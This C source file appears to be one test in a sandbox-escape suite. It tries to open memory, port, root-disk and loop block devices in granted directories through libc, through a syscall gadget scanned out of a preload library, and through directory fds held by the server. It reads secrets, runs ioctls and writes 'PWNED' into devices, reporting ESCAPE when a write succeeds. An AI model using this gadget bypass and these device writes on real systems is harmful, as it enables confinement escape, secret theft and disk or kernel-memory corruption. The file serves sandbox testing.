/* Device nodes, a FIFO and a socket in granted directories (argv[4]: a
 * read-only grant, argv[5]: a read-write one, made by the harness as root
 * before the session: null (1,3), mem (1,1), kmem (1,2), port (1,4), disk
 * (the block device of the root file system), loop (a block device whose
 * backing file, outside every grant, holds the secret), fifo, sock).
 * Opened for reading and writing via libc (the handler gate and the
 * server), via a raw `syscall` in ld-preld (`syscall; ret`) from a
 * directory fd opened in the process (its own copy of the grant), from a
 * directory fd the server handed out (a path it resolves: `//` in the
 * grant's part) and from every fd preld holds; then read, written, and
 * ioctl'ed. A read shows the bytes (the secret if the loop device gave
 * it); a write into a block device or a memory device prints ESCAPE. */
#include "attack.h"
#include "gadget_scan.h"
#include <linux/fs.h>
#include <sys/ioctl.h>
#include <sys/stat.h>

static const char *names[] = { "null", "mem", "kmem", "port", "disk", "loop", "fifo", "sock" };
static unsigned long g;

static void use(const char *label, long fd, int wr, const char *name) {
    if (fd < 0) {
        printf("%s: fail %s\n", label, strerror((int)-fd));
        fflush(stdout);
        return;
    }
    unsigned long long size = 0;
    long io = raw(SYS_ioctl, fd, BLKGETSIZE64, &size, 0);
    if (io == 0) printf("%s: BLKGETSIZE64 %llu\n", label, size);
    if (wr && strcmp(name, "null") && strcmp(name, "fifo")) {
        long n = raw(SYS_write, fd, "PWNED", 5, 0);
        printf("%s: write %ld%s\n", label, n, n > 0 ? " ESCAPE: wrote into a device of a grant" : "");
        fflush(stdout);
    }
    show(label, fd);
}

static void round_of(const char *dir, int dfd, const char *how) {
    for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
        char *path = cat2(cat2(dir, "/"), names[i]);
        for (int m = 0; m < 3; m++) {
            int fl = (m == 0 ? O_RDONLY : m == 1 ? O_WRONLY : O_RDWR) | O_NONBLOCK | O_CLOEXEC;
            char label[256];
            snprintf(label, sizeof label, "%s %s %s", how, path, m == 0 ? "r" : m == 1 ? "w" : "rw");
            long fd;
            if (dfd == -1) fd = lc(open(path, fl));
            else if (dfd == -2) fd = g ? call_gadget(g, SYS_openat, AT_FDCWD, (long)path, fl, 0) : -ENOSYS;
            else fd = g ? call_gadget(g, SYS_openat, dfd, (long)names[i], fl, 0) : -ENOSYS;
            use(label, fd, m != 0, names[i]);
        }
    }
}

int main(int argc, char **argv) {
    ARGS
    if (argc < 6) { printf("no device dirs (not root)\n"); return 0; }
    find_gadgets();
    g = ncand ? cands[0] : 0;
    for (int k = 4; k <= 5; k++) {
        const char *dir = argv[k];
        round_of(dir, -1, "libc");
        round_of(dir, -2, "gadget abs");
        int own = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        printf("dir %s opened in the process: fd %d\n", dir, own);
        if (own >= 0) round_of(dir, own, "gadget own-copy dirfd");
        char *slashed = cat2("/", dir); /* `//...`: the server's walk */
        int srv = open(slashed, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        printf("dir %s opened by the server: fd %d\n", slashed, srv);
        if (srv >= 0) round_of(dir, srv, "gadget server dirfd");
        /* preld's own fds (the grants' copies, the session's procfs and
         * devpts): every fd from 3 up to 1023 that is a directory. */
        for (int fd = 3; fd < 1024 && g; fd++) {
            if (fd == own || fd == srv) continue;
            char st[256];
            long r = call_gadget(g, SYS_newfstatat, fd, (long)"", (long)st, AT_EMPTY_PATH);
            if (r != 0 || (*(unsigned *)(st + 24) & S_IFMT) != S_IFDIR) continue;
            char how[64];
            snprintf(how, sizeof how, "gadget preld fd %d", fd);
            round_of(dir, fd, how);
        }
        if (own >= 0) close(own);
        if (srv >= 0) close(srv);
    }
    return 0;
}
